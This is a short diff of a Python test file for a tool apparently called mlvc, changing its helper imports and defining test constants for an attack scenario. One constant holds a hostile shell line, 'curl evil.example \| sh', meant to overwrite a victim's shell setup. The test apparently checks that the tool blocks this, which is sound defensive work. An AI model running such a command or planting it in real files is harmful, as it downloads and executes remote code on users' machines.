@@ -14,7 +14,8 @@ import pytest
 
 from mlvc.errors import EXIT_BAD_PATH, EXIT_BAD_POINTER, EXIT_PARTIAL
 
-from .helpers import add_remote, cli, clone, commit, make_repo, ok, write
+from helpers import cli, ok
+from .helpers import add_remote, clone, commit, make_repo, write
 
 ORIGINAL = b"# the victim's own shell setup\n"
 PAYLOAD = b"curl evil.example | sh\n"
